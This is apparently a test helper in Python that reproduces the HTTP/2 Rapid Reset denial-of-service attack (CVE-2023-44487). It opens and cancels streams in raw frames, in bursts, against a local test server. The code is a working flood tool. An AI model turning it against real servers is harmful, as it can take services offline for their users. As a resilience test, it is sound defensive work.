"""A flood of resets as of CVE-2023-44487: calls that are opened and reset at once, on one connection
after the other, in raw HTTP/2 frames. Bounded in count; only ever aimed at the tests' own servers.
"""

import contextlib
import socket
import ssl
import threading

import http2_client as http2

CANCEL = (8).to_bytes(4, "big")
CALLS_A_WRITE = 200


def _discard(connection):
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def _connect(port, encrypted):
    plain = socket.create_connection(("127.0.0.1", port), timeout=20)
    if not encrypted:
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain)


def _flood_connection(port, encrypted, wanted):
    """Opens and resets calls until `wanted` were or the connection ends; how many."""
    try:
        connection = _connect(port, encrypted)
    except OSError:
        return 0
    sent = 0
    block = http2.request_headers("/duet.v1.MotionSynthesis/Synthesize", scheme="https" if encrypted else "http")
    with connection:
        reader = threading.Thread(target=_discard, args=(connection,), daemon=True)
        try:
            connection.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
            reader.start()
            while sent < wanted:
                burst = b"".join(
                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                    + http2.frame(http2.RST_STREAM, 0, stream, CANCEL)
                    for stream in range(2 * sent + 1, 2 * (sent + CALLS_A_WRITE) + 1, 2))
                connection.sendall(burst)
                sent += CALLS_A_WRITE
        except OSError:
            pass  # the other side has had enough
        with contextlib.suppress(OSError):
            connection.shutdown(socket.SHUT_RDWR)
        if reader.ident:
            reader.join()
    return sent


def flood(port, encrypted, resets, connections=50):
    """Tries to send so many resets over at most so many connections; returns how many were sent."""
    sent = 0
    for _ in range(connections):
        if sent >= resets:
            break
        sent += _flood_connection(port, encrypted, resets - sent)
    return sent
